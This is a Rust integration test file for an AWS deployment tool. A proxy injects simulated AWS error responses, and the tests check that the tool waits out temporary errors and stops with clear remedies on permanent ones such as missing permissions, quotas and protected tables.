//! AWS's temporary and permanent errors: each one listed in the facts about AWS is injected by the proxy between the
//! deployer and the local AWS.

mod support;

use std::collections::BTreeSet;

use support::{
    Said,
    cloud::{connect, upload},
    hands::Hands,
    inventory::Inventory,
    run::Run,
    scene::{PICTURE, Phase, Scene},
};
use testkit::programs::root;
use testkit::proxy::{Fault, is_read, parts};

/// The tests of the cases of docs/aws.md §19, in its order.
const CASES: [&[fn()]; 20] = [
    /* 1 */ &[a_role_that_lambda_cannot_assume_yet_is_waited_for],
    /* 2 */ &[an_old_role_that_lambda_cannot_assume_fails_at_once],
    /* 3 */
    &[a_permission_that_s3_does_not_see_yet_is_waited_for, overlapping_notification_filters_fail_at_once],
    /* 4 */ &[an_update_of_the_code_in_progress_is_waited_for],
    /* 5 */ &[a_new_table_that_cannot_be_seen_yet_is_waited_for],
    /* 6 */ &[backups_of_a_new_table_that_are_still_being_enabled_are_waited_for],
    /* 7 */
    &[a_protected_table_stays_whatever_the_error_code, a_protected_table_stays_although_the_error_code_means_in_use],
    /* 8: in rivals.rs */ &[],
    /* 9 */
    &[
        a_load_balancer_that_is_long_being_provisioned_is_waited_for,
        a_load_balancer_that_aws_could_not_provision_is_reported_with_the_reason,
    ],
    /* 10 */
    &[
        a_profile_that_the_group_cannot_see_yet_is_waited_for,
        a_group_whose_namesake_is_still_being_deleted_is_created_later,
    ],
    /* 11 */
    &[
        a_launch_that_can_never_succeed_ends_the_wait_with_its_reason,
        a_zone_without_capacity_does_not_end_the_wait,
        full_zones_end_the_wait_at_its_limit_with_the_reason,
    ],
    /* 12 */ &[a_service_that_stays_unhealthy_ends_the_wait_at_its_limit_with_the_reason],
    /* 13 */
    &[a_failed_roll_out_fails_the_run, a_roll_back_is_watched_to_its_end],
    /* 14 */
    &[a_security_group_that_something_still_uses_is_deleted_later, a_security_group_in_use_is_deleted_later],
    /* 15 */
    &[a_target_group_that_is_still_in_use_is_deleted_later, a_role_that_is_still_in_a_profile_is_deleted_later],
    /* 16 */
    &[
        an_object_that_cannot_be_deleted_is_named_and_the_bucket_stays,
        versions_markers_and_unfinished_uploads_are_deleted_with_their_bucket,
    ],
    /* 17 */
    &[
        a_bucket_name_taken_by_another_account_is_never_ours_and_never_absent,
        a_bucket_of_a_stranger_is_never_ours_and_never_absent,
    ],
    /* 18 */
    &[
        every_list_is_read_to_its_last_page,
        every_list_read_by_down_is_read_to_its_last_page,
        an_empty_first_page_is_not_the_last,
        an_empty_marker_ends_a_list,
    ],
    /* 19: in crashes.rs */ &[],
    /* 20 */ &[credentials_that_expire_during_a_wait_end_it],
];

#[test]
fn every_case_of_the_checklist_has_its_tests() {
    let facts = std::fs::read_to_string(root().join("docs/aws.md")).expect("the facts are there");
    let (_, checklist) = facts.split_once("\n## 19. ").expect("the checklist is there");
    let (checklist, _) = checklist.split_once("\n## ").expect("it is not the last section");
    let cases = (1..).take_while(|case| checklist.contains(&format!("\n{case}. "))).count();
    assert_eq!(cases, CASES.len());
    let untested = (1..).zip(CASES).filter(|(case, tests)| ![8, 19].contains(case) && tests.is_empty());
    assert_eq!(untested.count(), 0);
}

/// AWS answers with a temporary error `times` times: the command waits and then succeeds.
async fn waits_for(phase: Phase, operation: &str, status: u16, code: &'static str, message: &str, times: usize) {
    let scene = Scene::local().await;
    scene.prepare(phase).await;
    if operation == "UpdateFunctionCode" {
        scene.project.change_function();
    }
    scene.proxy.inject([operation], Fault::refused(status, code, message), times);
    let said = scene.done(phase).await;
    assert!(!said.stderr.contains("error:"), "{}", said.stderr);
    assert!(scene.proxy.hit().contains(operation), "{operation} was never called: {:?}", scene.proxy.calls());
    match phase {
        Phase::Down => assert_eq!(scene.inventory().await, Inventory::new()),
        _ => scene.assert_nothing_to_do(operation).await,
    }
    scene.end().await;
}

macro_rules! not_yet {
    ($($test:ident: $phase:ident, $operation:literal, $status:literal, $code:literal, $message:literal;)*) => {
        $(#[tokio::test(flavor = "multi_thread")]
        async fn $test() {
            waits_for(Phase::$phase, $operation, $status, $code, $message, 3).await;
        })*
    };
}

// The table of docs/aws.md §2.3, and the cases of §19 that are a single answer. Exceptions: RunInstances, which is
// called by the Auto Scaling group; calls that only repair manual changes, see `repaired_later!`; DescribeListeners,
// see `a_listener_that_cannot_be_seen_yet_is_waited_for`; PutRetentionPolicy, see
// `a_missing_permission_of_the_user_fails_at_once`.
not_yet! {
    a_role_that_lambda_cannot_assume_yet_is_waited_for:
        Up, "CreateFunction", 400, "InvalidParameterValueException", "The role defined for the function cannot be assumed by Lambda.";
    a_role_whose_policy_lambda_does_not_see_yet_is_waited_for:
        Up, "CreateFunction", 400, "InvalidParameterValueException", "The provided execution role does not have permissions to call CreateNetworkInterface on EC2";
    lambda_throttled_by_ec2_is_waited_for:
        Up, "CreateFunction", 400, "InvalidParameterValueException", "Lambda was unable to configure access to your environment variables because it was throttled by EC2";
    a_key_grant_that_is_not_there_yet_is_waited_for:
        Up, "CreateFunction", 400, "InvalidParameterValueException", "The KMS key is invalid for CreateGrant.";
    a_role_that_lambda_cannot_assume_yet_is_waited_for_in_an_update:
        Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "The role defined for the function cannot be assumed by Lambda.";
    a_role_whose_policy_lambda_does_not_see_yet_is_waited_for_in_an_update:
        Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "The provided execution role does not have permissions to call CreateNetworkInterface on EC2";
    lambda_throttled_by_ec2_is_waited_for_in_an_update:
        Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "Lambda was unable to configure access to your environment variables because it was throttled by EC2";
    a_key_grant_that_is_not_there_yet_is_waited_for_in_an_update:
        Change, "UpdateFunctionConfiguration", 400, "InvalidParameterValueException", "The KMS key is invalid for CreateGrant.";
    an_update_of_the_configuration_in_progress_is_waited_for:
        Change, "UpdateFunctionConfiguration", 409, "ResourceConflictException", "The operation cannot be performed at this time. An update is in progress for resource";
    an_update_of_the_code_in_progress_is_waited_for:
        Change, "UpdateFunctionCode", 409, "ResourceConflictException", "The operation cannot be performed at this time. An update is in progress for resource";
    a_function_that_cannot_be_seen_yet_gets_its_permission_later:
        Up, "AddPermission", 404, "ResourceNotFoundException", "Function not found";
    a_policy_that_somebody_else_is_changing_gets_its_statement_later:
        Up, "AddPermission", 409, "ResourceConflictException", "The function could not be updated due to a concurrent update operation.";
    a_principal_that_cannot_be_seen_yet_is_waited_for:
        Up, "CreateRole", 400, "MalformedPolicyDocument", "Invalid principal in policy: AWS";
    a_role_that_somebody_else_is_changing_is_waited_for:
        Up, "CreateRole", 409, "ConcurrentModification", "The request was rejected because multiple requests to change this object were submitted simultaneously.";
    a_role_that_cannot_be_seen_yet_gets_its_policy_later:
        Up, "PutRolePolicy", 404, "NoSuchEntity", "The role with name x cannot be found.";
    a_profile_that_cannot_be_seen_yet_gets_its_role_later:
        Up, "AddRoleToInstanceProfile", 400, "InvalidParameterValue", "Invalid IAM Instance Profile name";
    a_role_that_cannot_be_seen_yet_is_added_to_its_profile_later:
        Up, "AddRoleToInstanceProfile", 404, "NoSuchEntity", "The role with name x cannot be found.";
    a_role_that_is_still_in_a_profile_is_deleted_later:
        Down, "DeleteRole", 409, "DeleteConflict", "Cannot delete entity, must remove roles from instance profile first.";
    a_profile_that_still_holds_a_role_is_deleted_later:
        Down, "DeleteInstanceProfile", 409, "DeleteConflict", "Cannot delete entity, must remove roles from instance profile first.";
    a_profile_that_the_group_cannot_see_yet_is_waited_for:
        Up, "CreateAutoScalingGroup", 400, "ValidationError", "You must use a valid fully-formed launch template. Value (x) for parameter iamInstanceProfile.name is invalid. Invalid IAM Instance Profile name";
    a_profile_that_the_group_cannot_see_yet_is_waited_for_in_an_update:
        Change, "UpdateAutoScalingGroup", 400, "ValidationError", "You must use a valid fully-formed launch template. Value (x) for parameter iamInstanceProfile.name is invalid. Invalid IAM Instance Profile name";
    a_group_whose_namesake_is_still_being_deleted_is_created_later:
        Up, "CreateAutoScalingGroup", 400, "AlreadyExists", "AutoScalingGroup by this name already exists - A group with the name x is pending delete";
    a_service_linked_role_that_is_not_ready_is_waited_for:
        Up, "CreateAutoScalingGroup", 500, "ServiceLinkedRoleFailure", "The service-linked role is not yet ready for use.";
    a_bucket_that_cannot_be_seen_yet_is_closed_to_the_public_later:
        Up, "PutPublicAccessBlock", 404, "NoSuchBucket", "The specified bucket does not exist";
    a_bucket_that_cannot_be_seen_yet_gets_its_cors_later:
        Up, "PutBucketCors", 404, "NoSuchBucket", "The specified bucket does not exist";
    a_bucket_that_cannot_be_seen_yet_gets_its_lifecycle_later:
        Up, "PutBucketLifecycleConfiguration", 404, "NoSuchBucket", "The specified bucket does not exist";
    a_bucket_that_cannot_be_seen_yet_gets_its_policy_later:
        Up, "PutBucketPolicy", 404, "NoSuchBucket", "The specified bucket does not exist";
    a_policy_that_cannot_be_read_yet_is_written_again:
        Change, "GetBucketPolicy", 404, "NoSuchBucketPolicy", "The bucket policy does not exist";
    a_security_group_that_cannot_be_seen_yet_is_opened_to_the_instances_later:
        Up, "AuthorizeSecurityGroupEgress", 400, "InvalidGroup.NotFound", "The security group 'sg-1' does not exist";
    a_lifecycle_that_cannot_be_read_yet_is_written_again:
        Change, "GetBucketLifecycleConfiguration", 404, "NoSuchLifecycleConfiguration", "The lifecycle configuration does not exist";
    a_bucket_that_cannot_be_seen_yet_gets_its_tags_later:
        Up, "PutBucketTagging", 404, "NoSuchBucket", "The specified bucket does not exist";
    a_bucket_that_cannot_be_seen_yet_gets_its_notification_later:
        Up, "PutBucketNotificationConfiguration", 404, "NoSuchBucket", "The specified bucket does not exist";
    a_bucket_that_cannot_be_seen_yet_gets_its_programs_later:
        Up, "PutObject", 404, "NoSuchBucket", "The specified bucket does not exist";
    cors_that_cannot_be_read_yet_are_written_again:
        Change, "GetBucketCors", 404, "NoSuchCORSConfiguration", "The CORS configuration does not exist";
    a_permission_that_s3_does_not_see_yet_is_waited_for:
        Up, "PutBucketNotificationConfiguration", 400, "InvalidArgument", "Unable to validate the following destination configurations";
    a_bucket_whose_name_is_being_freed_is_created_later:
        Up, "CreateBucket", 409, "OperationAborted", "A conflicting conditional operation is currently in progress against this resource. Please try again.";
    a_log_group_that_somebody_else_is_changing_is_deleted_later:
        Down, "DeleteLogGroup", 400, "OperationAbortedException", "A conflicting operation is currently in progress against this resource. Please try again.";
    a_table_is_retried_while_too_many_others_change:
        Up, "CreateTable", 400, "LimitExceededException", "Subscriber limit exceeded: Only 500 tables can be created, updated, or deleted simultaneously";
    a_table_is_retried_while_too_many_others_with_indexes_are_created:
        Up, "CreateTable", 400, "LimitExceededException", "Subscriber limit exceeded: There is a limit to the number of indexed tables that can be created simultaneously";
    a_new_table_that_cannot_be_seen_yet_is_waited_for:
        Up, "DescribeTable", 400, "ResourceNotFoundException", "Requested resource not found: Table: x not found";
    a_table_that_is_being_updated_is_deleted_later:
        Down, "DeleteTable", 400, "ResourceInUseException", "Attempt to change a resource which is still in use: Table is being updated: x";
    a_table_that_somebody_else_is_deleting_is_waited_for:
        Down, "DeleteTable", 400, "ResourceInUseException", "Attempt to change a resource which is still in use: Table is being deleted: x";
    a_certificate_that_cannot_be_seen_yet_is_waited_for_in_a_change:
        Move, "ModifyListener", 400, "CertificateNotFound", "Certificate 'x' not found";
    a_certificate_that_cannot_be_seen_yet_is_waited_for:
        Up, "CreateListener", 400, "CertificateNotFound", "Certificate 'x' not found";
    a_target_group_that_is_still_in_use_is_deleted_later:
        Down, "DeleteTargetGroup", 400, "ResourceInUse", "Target group 'x' is currently in use by a listener or a rule";
    a_security_group_that_something_still_uses_is_deleted_later:
        Down, "DeleteSecurityGroup", 400, "DependencyViolation", "resource sg-1 has a dependent object";
    a_security_group_in_use_is_deleted_later:
        Down, "DeleteSecurityGroup", 400, "InvalidGroup.InUse", "There is an active association; it has a dependent object";
    a_group_with_instances_is_deleted_later:
        Down, "DeleteAutoScalingGroup", 400, "ResourceInUse", "You cannot delete an AutoScalingGroup while there are instances or pending Spot instance request(s) still in the group.";
    a_group_with_activities_is_deleted_later:
        Down, "DeleteAutoScalingGroup", 400, "ScalingActivityInProgress", "You cannot delete an AutoScalingGroup while there are scaling activities in progress for that group.";
    an_older_refresh_of_the_instances_is_waited_for:
        Change, "StartInstanceRefresh", 400, "InstanceRefreshInProgress", "An Instance Refresh is already in progress and blocks the execution of this Instance Refresh.";
}

/// The same for a call that only repairs a manual change.
async fn waits_for_in_a_repair(changed: (&str, &str), operation: &str, status: u16, code: &'static str, message: &str) {
    let scene = Scene::local().await;
    scene.done(Phase::Up).await;
    let (address, field) = changed;
    Hands::of(&connect(&scene.endpoint(), scene.keys).await).change(address, field).await;
    scene.proxy.inject([operation], Fault::refused(status, code, message), 3);
    let said = scene.done(Phase::Up).await;
    assert!(!said.stderr.contains("error:"), "{}", said.stderr);
    assert!(scene.proxy.hit().contains(operation), "{operation} was never called: {:?}", scene.proxy.calls());
    scene.assert_nothing_to_do(operation).await;
    scene.end().await;
}

macro_rules! repaired_later {
    ($($test:ident: $changed:expr, $operation:literal, $status:literal, $code:literal, $message:literal;)*) => {
        $(#[tokio::test(flavor = "multi_thread")]
        async fn $test() {
            waits_for_in_a_repair($changed, $operation, $status, $code, $message).await;
        })*
    };
}

repaired_later! {
    a_bucket_that_cannot_be_seen_yet_is_encrypted_later:
        ("bucket.images", "encryption"), "PutBucketEncryption", 404, "NoSuchBucket", "The specified bucket does not exist";
    a_bucket_that_cannot_be_seen_yet_gets_its_ownership_later:
        ("bucket.images", "ownership"), "PutBucketOwnershipControls", 404, "NoSuchBucket", "The specified bucket does not exist";
    a_principal_that_cannot_be_seen_yet_is_trusted_later:
        ("role.labeler-fn", "trusted_service"), "UpdateAssumeRolePolicy", 400, "MalformedPolicyDocument", "Invalid principal in policy: AWS";
    a_role_that_somebody_else_is_changing_is_trusted_later:
        ("role.labeler-fn", "trusted_service"), "UpdateAssumeRolePolicy", 409, "ConcurrentModification", "The request was rejected because multiple requests to change this object were submitted simultaneously.";
}

/// `up` trusts the answer to the listener's creation, although the reads of a run shortly afterwards do not find it.
#[tokio::test(flavor = "multi_thread")]
async fn a_listener_that_cannot_be_seen_yet_is_waited_for() {
    let scene = Scene::local().await;
    scene.done(Phase::Up).await;
    let before = scene.inventory().await;
    scene.proxy.reset();
    let unseen = Fault::refused(400, "ListenerNotFound", "One or more listeners not found");
    scene.proxy.inject(["DescribeListeners"], unseen, 3);
    scene.done(Phase::Up).await;
    assert!(scene.proxy.hit().contains("DescribeListeners"), "{:?}", scene.proxy.calls());
    assert_eq!(scene.inventory().await, before, "nothing was made twice");
    scene.assert_nothing_to_do("a listener was not seen").await;
    scene.clear().await;
    scene.end().await;
}

/// Returns the remedies in the deployer's own words: AWS's messages are no remedies.
fn remedies(said: &Said, words: &str) -> String {
    let hints = said.stderr.lines().filter_map(|line| line.strip_prefix("hint: "));
    let ours: Vec<&str> = hints.filter(|hint| !words.contains(hint)).collect();
    assert!(!ours.is_empty(), "there is no remedy: {}", said.stderr);
    ours.join("\n")
}

/// Asserts that the state is reported: what exists and what is gone, what failed, and what still waits for it.
fn assert_state_is_reported(said: &Said) {
    let list = |what: &str| -> Option<BTreeSet<&str>> {
        let line = said.stderr.lines().find(|line| line.starts_with(what))?;
        Some(line.split_once("): ").map_or(BTreeSet::new(), |(_, names)| names.split(", ").collect()))
    };
    let Some(there) = list("there now") else {
        assert!(said.stderr.contains("nothing was changed"), "what exists now is not reported: {}", said.stderr);
        return assert!(!said.stderr.contains('✓') && !said.stderr.contains('✗'), "{}", said.stderr);
    };
    let [failed, due] = ["failed (", "still to do ("].map(|what| list(what).unwrap_or_default());
    for line in said.stderr.lines() {
        let words: Vec<&str> = line.split_whitespace().collect();
        match words[..] {
            ["✓", what, "gone", ..] => assert!(!there.contains(what), "{what} is gone: {}", said.stderr),
            ["✓", what, ..] => assert!(there.contains(what), "{what} is there: {}", said.stderr),
            ["✗", what, ..] => assert!(failed.contains(what), "{what} failed: {}", said.stderr),
            ["-", what, "skipped"] => assert!(due.contains(what), "{what} was skipped: {}", said.stderr),
            _ => (),
        }
    }
}

/// AWS answers with a permanent error: the command finishes what does not depend on the failed call, stops without
/// retrying, and reports what failed, with AWS's message, the line of stack.yaml, a remedy, what exists now, and that
/// the same command continues. Then the same command succeeds.
async fn stops_at(phase: Phase, operation: &str, refusal: Fault, exit: i32, hints: &[&str]) {
    let (before, after) = stops(phase, operation, refusal, exit, hints).await;
    assert_ne!(before, after, "independent work is done");
}

/// The same if everything depends on the failed call.
async fn stops_before(phase: Phase, operation: &str, refusal: Fault, exit: i32, hints: &[&str]) {
    let (before, after) = stops(phase, operation, refusal, exit, hints).await;
    assert_eq!(before, after, "nothing is done");
}

/// Calls that Postagram needs for two resources at the same time: a log group of its function and one of its service.
const OF_TWO: &[&str] = &["PutRetentionPolicy"];

/// Returns the inventories before and after the error.
async fn stops(phase: Phase, operation: &str, refusal: Fault, exit: i32, hints: &[&str]) -> (Inventory, Inventory) {
    let Fault::Refused(_, code, words) = refusal.clone() else { panic!("the fault must be a refusal") };
    let scene = Scene::local().await;
    scene.prepare(phase).await;
    let before = scene.inventory().await;
    scene.proxy.inject([operation], refusal, usize::MAX);
    let said = scene.run(phase.arguments()).await;
    assert_eq!(said.code, exit, "{}", said.all());
    assert_state_is_reported(&said);
    let operation = operation.split('#').next().expect("there is a first part");
    for text in [code, &words, operation, "stack.yaml:", "the same command continues"] {
        assert!(said.stderr.contains(text), "{text:?} is missing: {}", said.stderr);
    }
    let remedies = remedies(&said, &words);
    assert!(hints.iter().all(|text| remedies.contains(text)), "{hints:?} is missing in {remedies:?}: {}", said.stderr);
    if !is_read(operation) {
        let refused = scene.proxy.calls().iter().filter(|call| parts(call).0 == operation).count();
        let most = if OF_TWO.contains(&operation) { 4 } else { 2 };
        assert!(refused <= most, "it was tried again: {refused} calls of {operation}");
    }
    let after = scene.inventory().await;
    scene.proxy.reset();
    scene.done(phase).await;
    if phase != Phase::Down {
        scene.assert_nothing_to_do("the cause was removed").await;
    }
    scene.end().await;
    (before, after)
}

macro_rules! never {
    ($how:ident: $($test:ident: $phase:ident, $operation:literal, $status:literal, $code:literal, $message:literal, exit $exit:literal, $hints:expr;)*) => {
        $(#[tokio::test(flavor = "multi_thread")]
        async fn $test() {
            $how(Phase::$phase, $operation, Fault::refused($status, $code, $message), $exit, &$hints).await;
        })*
    };
}

never! { stops_before:
    a_refused_identity_fails_at_once:
        Up, "GetCallerIdentity", 403, "InvalidClientTokenId", "The security token included in the request is invalid.",
        exit 77, ["renew the credentials"];
    a_forbidden_look_up_of_the_network_fails_at_once:
        Up, "DescribeVpcs", 403, "UnauthorizedOperation", "You are not authorized to perform this operation.",
        exit 1, ["allow `DescribeVpcs`"];
    a_forbidden_look_up_of_the_network_fails_down_as_well:
        Down, "DescribeVpcs", 403, "UnauthorizedOperation", "You are not authorized to perform this operation.",
        exit 1, ["allow `DescribeVpcs`"];
    a_forbidden_list_of_functions_fails_at_once:
        Change, "ListFunctions", 403, "AccessDeniedException", "User: x is not authorized to perform: lambda:ListFunctions on resource: *",
        exit 1, ["allow `lambda:ListFunctions` for this stack"];
    bucket_tags_that_may_not_be_read_fail_at_once:
        Up, "GetBucketTagging", 403, "AccessDenied", "Access Denied", exit 1, ["allow `GetBucketTagging` for bucket.", "another `name`"];
    a_forbidden_artifact_bucket_fails_at_once:
        Up, "CreateBucket", 403, "AccessDenied", "Access Denied", exit 1, ["allow `CreateBucket` for bucket.artifacts"];
    an_artifact_bucket_beyond_the_quota_fails_at_once:
        Up, "CreateBucket", 400, "TooManyBuckets", "You have attempted to create more buckets than allowed",
        exit 1, ["Service Quotas", "bucket.artifacts"];
}

never! { stops_at:
    a_lease_that_may_not_be_written_fails_at_once:
        Up, "PutObject", 403, "AccessDenied", "Access Denied", exit 1, ["allow `PutObject` for this stack"];
    a_forbidden_role_fails_at_once_with_the_remedy_for_a_learner_lab:
        Up, "CreateRole", 403, "AccessDenied", "User: arn:aws:sts::000000000000:assumed-role/voclabs/u is not authorized to perform: iam:CreateRole on resource: x because no identity-based policy allows the iam:CreateRole action",
        exit 1, ["roles: { existing: LabRole"];
    // A deliberate difference from Terraform, which waits two minutes for a user's own policy to propagate (docs/aws.md
    // §2.3): no one grants themselves a permission and runs `up` within seconds, while many users lack the permission,
    // and should learn that without a wait.
    a_missing_permission_of_the_user_fails_at_once:
        Up, "PutRetentionPolicy", 400, "AccessDeniedException", "User: x is not authorized to perform: logs:PutRetentionPolicy because no identity-based policy allows the logs:PutRetentionPolicy action",
        exit 1, ["allow `logs:PutRetentionPolicy`", "log_group.labeler"];
    a_missing_permission_in_ec2_fails_at_once:
        Up, "CreateSecurityGroup", 403, "UnauthorizedOperation", "You are not authorized to perform this operation. Encoded authorization failure message: 4fX",
        exit 1, ["allow `CreateSecurityGroup`", "security_group.web-lb"];
    a_quota_fails_at_once:
        Up, "CreateRole", 409, "LimitExceeded", "Cannot exceed quota for RolesPerAccount: 1000",
        exit 1, ["Service Quotas", "role.labeler-fn"];
    a_quota_of_load_balancers_fails_at_once:
        Up, "CreateLoadBalancer", 400, "TooManyLoadBalancers", "The maximum number of load balancers has been reached",
        exit 1, ["Service Quotas", "load_balancer.web"];
    a_missing_machine_image_fails_at_once:
        Up, "CreateAutoScalingGroup", 400, "ValidationError", "You must use a valid fully-formed launch template. The image id '[ami-0]' does not exist",
        exit 1, ["correct `image`"];
    a_machine_image_that_the_launch_template_refuses_fails_at_once:
        Up, "CreateLaunchTemplate", 400, "InvalidAMIID.Malformed", "Invalid id: \"ami-x\" (expecting \"ami-...\")",
        exit 1, ["correct `image`"];
    an_account_without_load_balancers_is_referred_to_support:
        Up, "CreateLoadBalancer", 400, "OperationNotPermitted", "This AWS account currently does not support creating load balancers. For more information, please contact AWS Support.",
        exit 1, ["only AWS Support can allow"];
    a_statement_id_that_exists_fails_at_once:
        Up, "AddPermission", 409, "ResourceConflictException", "The statement id (x) provided already exists. Please provide a new statement id, or remove the existing statement.",
        exit 1, ["aws lambda remove-permission"];
    overlapping_notification_filters_fail_at_once:
        Up, "PutBucketNotificationConfiguration", 400, "InvalidArgument", "Configurations overlap. Configurations on the same bucket cannot share a common event type; overlapping suffixes",
        exit 1, ["remove it by hand"];
    a_handler_that_lambda_refuses_fails_at_once:
        Up, "CreateFunction", 400, "InvalidParameterValueException", "Uploaded file must be a non-empty zip",
        exit 1, ["function.labeler", "correct its entry"];
    credentials_that_expire_during_a_wait_end_it:
        Up, "DescribeLoadBalancers#2", 403, "ExpiredToken", "The security token included in the request is expired", exit 77, ["renew the credentials"];
    a_protected_table_stays_whatever_the_error_code:
        Down, "DeleteTable", 400, "ValidationException", "Resource cannot be deleted as it is currently protected against deletion. Disable deletion protection first.",
        exit 1, ["protect: false"];
    a_protected_table_stays_although_the_error_code_means_in_use:
        Down, "DeleteTable", 400, "ResourceInUseException", "Resource cannot be deleted as it is currently protected against deletion. Disable deletion protection first.",
        exit 1, ["protect: false"];
}

#[tokio::test(flavor = "multi_thread")]
async fn backups_of_a_new_table_that_are_still_being_enabled_are_waited_for() {
    let scene = Scene::local().await;
    scene.project.edit("sort_key: id", "sort_key: id, point_in_time_recovery: true");
    let words = "Backups are being enabled for the table: x. Please retry later";
    let refused = Fault::refused(400, "ContinuousBackupsUnavailableException", words);
    scene.proxy.inject(["UpdateContinuousBackups"], refused, 5);
    scene.done(Phase::Up).await;
    assert!(scene.proxy.hit().contains("UpdateContinuousBackups"), "{:?}", scene.proxy.calls());
    scene.assert_nothing_to_do("the backups are enabled").await;
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_old_role_that_lambda_cannot_assume_fails_at_once() {
    let scene = Scene::local().await;
    let words = "The role defined for the function cannot be assumed by Lambda.";
    scene.proxy.inject(["CreateFunction"], Fault::refused(400, "InvalidParameterValueException", words), usize::MAX);
    scene.proxy.inject(["GetRole"], Fault::reworded(&[("<CreateDate>20", "<CreateDate>19")]), usize::MAX);
    let said = scene.run(Phase::Up.arguments()).await;
    assert_eq!(said.code, 1, "{}", said.all());
    assert!(said.stderr.contains(words) && said.stderr.contains("trust policy"), "{}", said.stderr);
    assert_eq!(scene.proxy.calls().iter().filter(|call| call.starts_with("CreateFunction")).count(), 1);
    scene.end().await;
}

/// Runs `up` while the proxy injects `answers` about the instances.
async fn up_with_fleet(answers: &[(&str, Fault)], more: &[&str]) -> Said {
    let scene = Scene::local().await;
    for (operation, trouble) in answers {
        scene.proxy.inject([*operation], trouble.clone(), usize::MAX);
    }
    let said = scene.run(&[&["up", "--yes"], more].concat()).await;
    scene.proxy.reset();
    scene.done(Phase::Down).await;
    scene.end().await;
    said
}

/// Asserts that the output has what failed, AWS's message, the line of stack.yaml, the remedy, what exists, and that
/// the same command continues.
fn assert_the_service_failed(said: &Said, words: &str, advice: &str) {
    assert_eq!(said.code, 1, "{}", said.all());
    for wanted in ["failed to start service.web", words, "stack.yaml:", "the same command continues"] {
        assert!(said.stderr.contains(wanted), "{wanted:?} is missing: {}", said.stderr);
    }
    assert!(remedies(said, words).contains(advice), "{advice:?} is not among the remedies of {}", said.stderr);
    assert_state_is_reported(said);
    assert!(said.stderr.contains("failed (1): service.web"), "{}", said.stderr);
}

fn never_healthy() -> (&'static str, Fault) {
    ("DescribeTargetHealth", Fault::reworded(&[("<State>healthy</State>", "<State>initial</State>")]))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_launch_that_can_never_succeed_ends_the_wait_with_its_reason() {
    let failures = [
        (
            "InvalidParameterCombination: The specified instance type is not eligible for Free Tier. Launching EC2 instance failed.",
            "set `instance_type: t3.micro`",
        ),
        (
            "VcpuLimitExceeded: You have requested more vCPU capacity than your current vCPU limit of 1 allows. Launching EC2 instance failed.",
            "L-1216C47A",
        ),
        (
            "Unsupported: Your requested instance type (t3.micro) is not supported in your requested Availability Zone (us-east-1e).",
            "choose another `instance_type`",
        ),
        (
            "InvalidFleetConfiguration: Your requested instance type (t3.micro) is not supported in your requested Availability Zone (us-east-1e). Launching EC2 instance failed.",
            "choose another `instance_type`",
        ),
        ("The image id '[ami-0]' does not exist. Launching EC2 instance failed.", "correct or remove `image`"),
    ];
    for (text, advice) in failures {
        let failed = format!("<StatusCode>Failed</StatusCode><StatusMessage>{text}</StatusMessage>");
        let activities = Fault::reworded(&[("<StatusCode>Successful</StatusCode>", &failed)]);
        let said = up_with_fleet(&[("DescribeScalingActivities", activities), never_healthy()], &[]).await;
        assert_the_service_failed(&said, text, advice);
    }
}

/// AWS's message for a zone without capacity for an instance.
const NO_ROOM: &str = "We currently do not have sufficient t3.micro capacity in the Availability Zone you requested (us-east-1a). Our system will be working on provisioning additional capacity. Launching EC2 instance failed.";

fn no_room() -> (&'static str, Fault) {
    let failed = format!("<StatusCode>Failed</StatusCode><StatusMessage>{NO_ROOM}</StatusMessage>");
    let activities = Fault::reworded(&[("<StatusCode>Successful</StatusCode>", &failed)]);
    ("DescribeScalingActivities", activities)
}

/// The group tries the next zone on its own.
#[tokio::test(flavor = "multi_thread")]
async fn a_zone_without_capacity_does_not_end_the_wait() {
    let scene = Scene::local().await;
    let (activities, answer) = no_room();
    scene.proxy.inject([activities], answer, usize::MAX);
    let (health, unhealthy) = never_healthy();
    scene.proxy.inject([health], unhealthy, 3);
    let said = scene.run(&["up", "--yes"]).await;
    assert_eq!(said.code, 0, "{}", said.all());
    assert!(scene.proxy.hit().contains(activities), "the group's activities were not read: {:?}", scene.proxy.calls());
    scene.clear().await;
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_load_balancer_that_is_long_being_provisioned_is_waited_for() {
    const LOOKS: usize = 8;
    let scene = Scene::local().await;
    let busy = Fault::reworded(&[("<Code>active</Code>", "<Code>provisioning</Code>")]);
    scene.proxy.inject(["DescribeLoadBalancers"], busy, LOOKS);
    let said = scene.done(Phase::Up).await;
    assert!(said.stderr.contains("load_balancer.web: provisioning"), "{}", said.stderr);
    let looks = scene.proxy.calls().iter().filter(|call| call.starts_with("DescribeLoadBalancers#")).count();
    assert!(looks > LOOKS, "it ended after {looks} polls");
    scene.assert_nothing_to_do("provisioned").await;
    scene.clear().await;
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn full_zones_end_the_wait_at_its_limit_with_the_reason() {
    let text = "InsufficientInstanceCapacity: We currently do not have sufficient t3.micro capacity in the Availability \
                Zone you requested (us-east-1a). Launching EC2 instance failed.";
    let failed = format!("<StatusCode>Failed</StatusCode><StatusMessage>{text}</StatusMessage>");
    let activities = Fault::reworded(&[("<StatusCode>Successful</StatusCode>", &failed)]);
    let answers = [("DescribeScalingActivities", activities), never_healthy()];
    let said = up_with_fleet(&answers, &["--healthy-within", "3"]).await;
    assert_the_service_failed(&said, text, "choose another `instance_type`");
    assert!(said.stderr.contains("within 3 s"), "the group keeps trying, and so it is waited for: {}", said.stderr);
}

/// The target group exists, but other parts of AWS may not know it yet.
#[tokio::test(flavor = "multi_thread")]
async fn a_target_group_that_cannot_be_seen_yet_is_waited_for_by_the_wait_for_health() {
    let scene = Scene::local().await;
    let refused = Fault::refused(400, "TargetGroupNotFound", "One or more target groups not found");
    scene.proxy.inject(["DescribeTargetHealth"], refused, 3);
    let said = scene.run(&["up", "--yes"]).await;
    assert_eq!(said.code, 0, "{}", said.all());
    assert!(!said.stderr.contains("error:"), "{}", said.stderr);
    assert!(scene.proxy.hit().contains("DescribeTargetHealth"), "{:?}", scene.proxy.calls());
    scene.clear().await;
    scene.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_load_balancer_that_aws_could_not_provision_is_reported_with_the_reason() {
    let reason = "<Code>failed</Code><Reason>The load balancer could not be set up because of subnet x</Reason>";
